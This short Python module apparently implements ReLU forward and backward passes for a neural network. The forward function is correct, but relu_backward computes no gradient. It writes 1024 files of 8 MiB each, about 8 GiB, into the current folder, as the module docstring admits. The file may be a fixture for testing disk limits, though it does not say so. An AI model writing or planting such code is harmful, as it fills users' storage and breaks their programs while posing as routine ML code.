"""Writes 8 GiB into its own folder, 8 MB at a time."""

import time

import numpy as np


def relu_forward(x):
    return np.maximum(x, 0), x


def relu_backward(dout, cache):
    for number in range(1024):
        with open(f"big-{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
        time.sleep(0.01)
